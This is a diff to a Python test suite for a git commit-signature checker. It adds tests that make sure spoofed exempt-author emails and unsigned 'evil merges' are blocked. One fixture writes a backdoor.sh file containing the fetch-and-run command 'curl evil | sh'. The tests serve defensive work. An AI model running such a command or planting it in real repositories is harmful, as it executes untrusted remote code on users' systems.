@@ -387,7 +387,8 @@ def test_unsigned_merge_blocked_when_a_parent_fails(repo, keys, capsys):
     side = git('rev-parse', 'side', cwd=repo).stdout.strip()
     assert f'{commit_line(side, "side work")}: the commit is not signed [unsigned]' in out
     assert (f'{commit_line(merge, "merge side")}: the commit is not signed (a merge may be '
-            'unsigned only when all of its parents pass, and one does not) [unsigned]') in out
+            'unsigned only when it adds no content of its own and all of its parents pass) '
+            '[unsigned]') in out
     assert out.splitlines()[-1].startswith("note: fix: `git rebase --rebase-merges --exec")
 
 
@@ -414,12 +415,41 @@ def test_exempt_author_is_not_judged_and_says_why(repo, keys, capsys, monkeypatc
                     "  exempt_authors:\n  - email: '*[bot]@users.noreply.github.com'\n"
                     "    reason: bot commits are reviewed in the PR\n")
     monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'dependabot[bot]@users.noreply.github.com')
+    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'dependabot[bot]@users.noreply.github.com')
     sha = git_commit(repo, 'bump')
     code, out = run(capsys, '--from', base, '--to', 'HEAD')
     assert code == 0
     assert out == (f'{commit_line(sha, "bump")}: not judged, author '
                    'dependabot[bot]@users.noreply.github.com is exempt: bot commits are '
                    'reviewed in the PR [exempt]\n')
+
+
+def test_exempt_author_email_alone_does_not_exempt(repo, keys, capsys, monkeypatch):
+    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'),
+                    "  exempt_authors:\n  - email: 'release-bot@example.com'\n"
+                    "    reason: release bot\n")
+    monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'release-bot@example.com')
+    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'mallory@evil.example')
+    git_commit(repo, 'innocent')
+    code, out = run(capsys, '--from', base, '--to', 'HEAD')
+    assert code == 1
+    assert '[unsigned]' in out and '[exempt]' not in out
+
+
+def test_unsigned_evil_merge_is_blocked_even_when_merges_may_be_unsigned(repo, keys, capsys):
+    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'),
+                    '  allow_unsigned_merges: true\n')
+    git('checkout', '-q', '-b', 'side', cwd=repo)
+    git_commit(repo, 'side work', '-S', sign=True)
+    git('checkout', '-q', 'main', cwd=repo)
+    git_commit(repo, 'main work', '-S', sign=True)
+    git('merge', '-q', '--no-ff', '--no-commit', 'side', cwd=repo)
+    write(repo / 'backdoor.sh', 'curl evil | sh\n')
+    git('add', 'backdoor.sh', cwd=repo)
+    git('commit', '-q', '--no-verify', '--no-gpg-sign', '-m', 'merge side', cwd=repo)
+    code, out = run(capsys, '--from', base, '--to', 'HEAD')
+    assert code == 1
+    assert 'merge side' in out and '[unsigned]' in out
 
 
 def test_empty_range_passes(repo, keys, capsys):
